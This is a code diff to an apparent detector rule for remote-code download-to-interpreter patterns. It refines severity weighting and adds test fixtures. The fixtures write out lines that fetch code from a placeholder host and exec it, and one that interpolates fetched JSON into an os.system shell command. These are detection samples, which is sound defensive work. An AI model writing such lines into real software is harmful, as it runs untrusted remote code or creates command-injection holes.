@@ -25,7 +25,7 @@ import {
 import { byHost, fetchers } from './shared.ts';
 import { isRunLater } from '../flows/reached.ts';
 import { runsReply } from '../programs/reply-runs.ts';
-import { fenced, inFile } from '../../engine/example.ts';
+import { fenced, inFile, weighed } from '../../engine/example.ts';
 import { bodyVariables, replyVariables } from '../../vocabulary/remote-code/rc-01-download-to-interpreter.ts';
 import { isUsedLater } from '../../vocabulary/variables.ts';
 import type { Row } from '../../engine/rule.ts';
@@ -156,8 +156,13 @@ export const programsOfDownloads: readonly Row[] = [
       ),
       pattern(scheme),
     ],
-    weigh: (hit) =>
-      runsReply(hit.scope) ? (isRunLater(hit.scope, hit.match[0]) ? byHost(hit) : 'medium') : null,
+    weigh: (hit) => {
+      const run = runsReply(hit.scope, hit.region.text);
+      if (run === null) return null;
+      const isLater = isRunLater(hit.scope, hit.match[0]);
+      // A value of the reply in a command of the program is an injection at most.
+      return run === 'value' ? (isLater ? 'medium' : null) : isLater ? byHost(hit) : 'medium';
+    },
     catches: [
       inFile(
         'scripts/a.py',
@@ -166,6 +171,15 @@ export const programsOfDownloads: readonly Row[] = [
       ),
       inFile('scripts/a.py', 'r = requests.get("https://p.invalid/a.py")', 'exec(r.text)'),
       inFile('scripts/a.py', 'code = urllib.request.urlopen("https://p.invalid/a.py").read()', 'exec(code)'),
+      weighed(
+        'medium',
+        inFile(
+          'scripts/a.py',
+          'row = requests.get("https://rows.farrowmere.io/row").json()',
+          'cmd = f\'notify-send "{row}"\'',
+          'os.system(cmd)',
+        ),
+      ),
     ],
     spares: [
       inFile(
